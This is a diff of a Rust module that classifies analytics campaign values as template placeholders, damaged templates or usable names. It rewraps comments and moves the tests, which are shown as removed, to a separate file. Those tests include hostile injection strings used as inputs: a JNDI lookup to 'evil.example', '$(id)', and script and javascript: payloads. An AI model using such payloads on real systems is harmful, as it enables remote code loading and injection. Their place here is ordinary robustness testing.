@@ -10,7 +10,8 @@ use super::{constant_pattern, fold, is_invisible, is_mark, percent_decode};
 /// What Matomo stores instead of a campaign value when a privacy policy discards it.
 pub const MASKED: &str = "__discarded_by_policy__";
 
-/// What template engines and scripts print for a value that is missing, and Google Analytics' own labels.
+/// What template engines and scripts print for a value that is missing, and Google Analytics' own
+/// labels.
 const MISSING: [&str; 10] = [
     "(not set)",
     "(not provided)",
@@ -27,15 +28,16 @@ const MISSING: [&str; 10] = [
 /// One of these (the last begins `«`), or two underscores, is in every template that is known.
 const SIGNS: &[u8] = b"{}[]<>%$#(*\xc2";
 
-/// Field names that make `[name]`, `<name>` or `«name»` a placeholder, without accents and a final s. Brackets alone do
-/// not: `[newsletter]` is a name.
+/// Field names that make `[name]`, `<name>` or `«name»` a placeholder, without accents and a final
+/// s. Brackets alone do not: `[newsletter]` is a name.
 const FIELDS: &str = "ad adgroup adset campagne campaign campaignid campaignname content contenu date firstname keyword lastname \
     medium name nom objet prenom pseudo source subject surname term titre url";
 /// What may stand beside a field: `[nom de la campagne]`, `[first_name]`, `[contact.prénom]`.
 const BESIDE_FIELDS: &str = "a adresse civilite client contact d de des destinataire du email first full group here ici id insert inserer l la last le \
     lead list liste mail no numero of recipient set the user usager utilisateur utm votre your";
 
-/// What is left of a template whose `%` and first two letters Matomo, decoding URLs, took for an escape.
+/// What is left of a template whose `%` and first two letters Matomo, decoding URLs, took for an
+/// escape.
 const DAMAGED: [(&str, &str); 17] = [
     ("mpaign%", "%campaign%"),
     ("mpaign_id%", "%campaign_id%"),
@@ -73,7 +75,8 @@ static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
     ))
 });
 
-/// Placeholders only when they are the whole value: TikTok's `__CAMPAIGN_NAME__`, `#campaign#`, `%1$s`.
+/// Placeholders only when they are the whole value: TikTok's `__CAMPAIGN_NAME__`, `#campaign#`,
+/// `%1$s`.
 static WHOLE: LazyLock<Regex> = LazyLock::new(|| {
     constant_pattern(
         r"^(?:__[A-Za-z][A-Za-z0-9_]*__|#[^\W\d]\w*#|\$[^\W\d]\w*\$|%[0-9]\$[sd]|%\([a-z_]+\)s|%[^\W\d][\w '.-]*%)$",
@@ -156,8 +159,8 @@ fn is_field(bracketed: &str) -> bool {
         && fields > 0
 }
 
-/// A name may hold a placeholder and still say something (`newsletter-{{date}}`): it does when it has at
-/// least as many letters and digits outside the placeholders as within.
+/// A name may hold a placeholder and still say something (`newsletter-{{date}}`): it does when it
+/// has at least as many letters and digits outside the placeholders as within.
 fn is_mostly_placeholder(value: &str) -> bool {
     let mut inside = 0;
     let mut outside = 0;
@@ -223,16 +226,17 @@ fn intact(part: &str) -> Option<&'static str> {
     DAMAGED.iter().find(|(damaged, _)| *damaged == part).map(|(_, template)| *template)
 }
 
-/// Any placeholder that starts with two hexadecimal digits is damaged alike (`%ADDRESS%` → `dress%`). Nobody
-/// ends a word with `%`, only a number (`-50%`), so as the whole value that is enough.
+/// Any placeholder that starts with two hexadecimal digits is damaged alike (`%ADDRESS%` →
+/// `dress%`). Nobody ends a word with `%`, only a number (`-50%`), so as the whole value that is
+/// enough.
 fn is_damaged_alone(value: &str) -> bool {
     value.strip_suffix('%').is_some_and(|word| {
         word.ends_with(char::is_alphabetic) && word.chars().all(|c| c.is_alphabetic() || c == '_')
     })
 }
 
-/// What a damaged template was before Matomo decoded it: `%campaign%` for `mpaign%`. Where the two letters that are lost
-/// cannot be told, they are dots.
+/// What a damaged template was before Matomo decoded it: `%campaign%` for `mpaign%`. Where the two
+/// letters that are lost cannot be told, they are dots.
 pub fn before_damage(value: &str) -> Option<String> {
     let value = plain(value);
     if value.split(BETWEEN_PARTS).any(|part| intact(part).is_some()) {
@@ -252,207 +256,4 @@ fn weight(text: &str) -> usize {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use proptest::prelude::*;
-
-    #[test]
-    fn placeholders() {
-        for value in [
-            "{{campaign}}",
-            "{{campaign.name}}",
-            "{{ campaign_name }}",
-            "{{{campaign}}}",
-            "{{7*7}}",
-            "{% campaign %}",
-            "[[x]]",
-            "[[campaign]]",
-            "%X%",
-            "%CAMPAIGN%",
-            "%email%",
-            "%utm_source%-%utm_medium%",
-            "%campaign%%date%",
-            "%%emailname_%%",
-            "mpaign%",
-            "mpaign_name%",
-            "te%",
-            "group%",
-            "_id%",
-            "{campaign_name}",
-            "{medium}",
-            "{keyword:nom}",
-            "{$campaign}",
-            "{0}",
-            "${source}",
-            "#{source}",
-            "*|campaign_uid|*",
-            "<%= x %>",
-            "##x##",
-            "<<campagne>>",
-            "%%=v(@campaign)=%%",
-            "$campaign$",
-            "#campaign#",
-            "__CAMPAIGN_NAME__",
-            "(not set)",
-            "(not+set)",
-            " (none) ",
-            "Undefined",
-            "undefined-undefined",
-            "null",
-            "NaN",
-            "[object Object]",
-            "[campaign]",
-            "[Campaign Name]",
-            "<campaign>",
-            "%s",
-            "%1$s",
-            "%7b%7bcampaign%7d%7d",
-            "%257B%257Bcampaign%257D%257D",
-            "{{campaign}}-{{date}}",
-            "nl-{{campaign.name}}",
-            "fr-mpaign%",
-            "mpaign%-te%",
-            "ab-mpaign%-{{x}}",
-            "\u{200b}{{x}}\n",
-            "[prénom]",
-            "[Prénom]",
-            "[pre\u{301}nom]",
-            "[ prénom ]",
-            "[first_name]",
-            "[First Name]",
-            "[last-name]",
-            "[nom du contact]",
-            "[Votre prénom]",
-            "[contact.nom]",
-            "[nom de la campagne]",
-            "[inserer le nom]",
-            "<prénom>",
-            "«Prénom»",
-            "« nom »",
-            "[[ prénom ]]",
-            "{{ contact.NOM }}",
-            "{{ contact.prénom | default }}",
-            "{Prénom}",
-            "{école}",
-            "{nom de l'école}",
-            "%prénom%",
-            "%pr%C3%A9nom%",
-            "%nom de campagne%",
-            "[nom]-[date]",
-            "nl-[prénom]",
-            "[prénom] [nom]",
-            "%5Bpr%C3%A9nom%5D",
-            "mpagne_nom%",
-        ] {
-            assert!(is_placeholder(value), "{value}");
-            assert!(!is_usable(value), "{value}");
-        }
-    }
-
-    #[test]
-    fn names() {
-        for value in [
-            "promo-50%",
-            "100%",
-            "50%",
-            "%",
-            "%%",
-            "{",
-            "{}",
-            "{{}}",
-            "[]",
-            "[lien](javascript:alert(1))",
-            "c:\\windows",
-            "%3cscript%3e",
-            "%c3%a9t%c3%a9",
-            "%c3%aate%20",
-            "t%eate%20",
-            "20%off%",
-            "-20%-sur-tout-40%",
-            "{\"a\":1}",
-            "${jndi:ldap://evil.example/a}",
-            "$(id)",
-            "[newsletter]",
-            "[email]",
-            "[date limite]",
-            "[nom de domaine]",
-            "[campagne emploi]",
-            "[ad hoc]",
-            "[first]",
-            "[contact]",
-            "[rentrée 2026]",
-            "rentrée [nom]",
-            "«rentrée»",
-            "« à nous »",
-            "<prénoms d'hier>",
-            "newsletter-[prénom]",
-            "remise 10% et 20% offerts",
-            "50%pur 20%",
-            "<b>",
-            "<script>alert(1)</script>",
-            "newsletter-{{date}}",
-            "newsletter-te%",
-            "100 pour cent%",
-            "true",
-            "none",
-            "nullement",
-            "null-part",
-            "nancy",
-            "keyword not defined",
-            "direct entry",
-            "#promo",
-            "c#",
-            "rentree__2026",
-            "a|b|c",
-            "* puce",
-            "-",
-        ] {
-            assert!(!is_placeholder(value), "{value}");
-            assert!(is_usable(value), "{value}");
-        }
-    }
-
-    #[test]
-    fn a_damaged_template_says_what_it_was() {
-        for (value, whole) in [
-            ("mpaign%", Some("%campaign%")),
-            ("MPAIGN_NAME%", Some("%campaign_name%")),
-            ("te%", Some("%date%")),
-            ("fr-mpaign%", Some("fr-%campaign%")),
-            ("mpaign%-te%", Some("%campaign%-%date%")),
-            ("mpagne%", Some("%campagne%")),
-            ("group%", Some("%adgroup%")),
-            ("dress%", Some("%··dress%")),
-            ("%campaign%", None),
-            ("{{campaign}}", None),
-            ("promo-50%", None),
-            ("mpaign", None),
-        ] {
-            assert_eq!(before_damage(value).as_deref(), whole, "{value}");
-        }
-    }
-
-    #[test]
-    fn masked_values_are_no_placeholders() {
-        assert!(is_masked(MASKED) && is_masked("__Discarded_By_Policy__ "));
-        assert!(!is_placeholder(MASKED));
-        assert!(!is_usable(MASKED));
-        assert!(!is_masked("discarded_by_policy"));
-    }
-
-    #[test]
-    fn what_cannot_be_seen_names_nothing() {
-        for value in ["", " ", "\u{a0}\t", "\u{200b}\u{feff}", "\0", "\u{301}"] {
-            assert!(!is_usable(value), "{value:?}");
-            assert!(!is_placeholder(value), "{value:?}");
-        }
-    }
-
-    proptest! {
-        #[test]
-        fn any_text_is_answered(text: String, marks in "[a-z0-9%{}\\[\\]<>|*#$_ +-]{0,40}") {
-            prop_assert!(!(is_placeholder(&text) && is_usable(&text)));
-            prop_assert!(!(is_placeholder(&marks) && is_usable(&marks)));
-        }
-    }
-}
+mod tests;
